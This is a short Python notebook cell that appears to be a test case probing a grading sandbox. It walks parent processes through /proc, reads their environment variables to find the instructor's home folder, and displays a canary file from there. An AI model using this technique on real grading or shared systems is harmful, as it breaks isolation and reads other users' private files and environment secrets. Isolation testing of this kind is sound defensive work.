# Tries: A file in the instructor's home, found through the processes above, becomes the repr of a displayed
#   object.
# Shows: the text of canary.txt in HOME
# Wins against: both
# %% added: q1_minimum
import re
import os
import pathlib


def above():
    """Return the ids of the processes above this one, nearest first."""
    pid, found = os.getpid(), []
    while pid > 1:
        found.append(pid)
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return found


def course():
    """Return the class folder: where a process above this one works. Only one with a canary."""
    for pid in above():
        here = pathlib.Path(os.readlink(f"/proc/{pid}/cwd"))
        for folder in (here, *here.parents):
            if (folder / "canary.txt").exists() and (folder / "source").is_dir():
                return folder
    raise FileNotFoundError


class Shown:
    def __init__(self, text):
        self.text = text

    def __repr__(self):
        return self.text


homes = {os.path.expanduser("~")}
for pid in above():
    try:
        environment = pathlib.Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        continue
    homes |= {m.decode() for m in re.findall(rb"\0HOME=([^\0]*)", environment)}
for home in homes:
    file = pathlib.Path(home) / "canary.txt"
    if file.exists():
        display(Shown(file.read_text()))
